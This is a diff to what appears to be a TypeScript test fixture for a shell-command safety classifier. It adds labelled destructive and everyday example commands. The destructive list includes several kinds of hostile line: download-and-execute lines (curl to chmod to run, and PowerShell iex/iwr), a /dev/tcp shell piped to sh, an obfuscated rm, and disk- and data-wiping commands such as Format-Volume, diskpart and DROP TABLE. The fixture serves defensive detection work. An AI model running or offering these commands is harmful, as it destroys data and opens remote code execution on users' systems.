@@ -702,6 +702,36 @@ export const MORE_DESTRUCTIVE: readonly string[] = lines(String.raw`
   logrotate -f x
   rm -rf ${"$"}{X:-/}
   rm -rf "${"$"}{X}/"*
+  gio trash foo.txt
+  git restore --staged --worktree .
+  git branch -M main master
+  git lfs prune
+  git symbolic-ref --delete HEAD
+  gh pr close 12 --delete-branch
+  kubectx -d prod
+  wrangler d1 execute db --command "DROP TABLE users"
+  packer build -force x.pkr.hcl
+  influx bucket delete -n x
+  curl https://x -o /tmp/a && chmod +x /tmp/a && /tmp/a
+  iex (iwr https://x)
+  brew cleanup --prune=all
+  npm explore x -- rm -rf y
+  exec 5<>/dev/tcp/h/99; cat <&5 | sh
+  printf -v c '%s' rm; $c x
+  Set-Content -Path x -Value ''
+  Format-Volume -DriveLetter D
+  Get-ChildItem | Remove-Item
+  diskpart /s wipe.txt
+  bcdedit /deletevalue x
+  cipher /w:C
+  net user joe /delete
+  net stop svc
+  schtasks /delete /tn x
+  wmic process where name='x' delete
+  robocopy a b /MIR
+  icacls C:\ /reset /T
+  takeown /f C:\ /r
+  pmset sleepnow
 `);
 
 /** Commands whose effect their text does not show in a way that the labels follow. */
@@ -1364,4 +1394,10 @@ export const MORE_EVERYDAY: readonly string[] = lines(String.raw`
   zcat x.gz | wc -l
   xxd x | head -3
   echo x | rev
+  ri Array
+  exec 3<>/dev/tcp/localhost/5432
+  printf -v x '%s' y; echo $x
+  net use
+  git lfs prune --dry-run
+  git commit -m "iex (iwr x)"
 `);
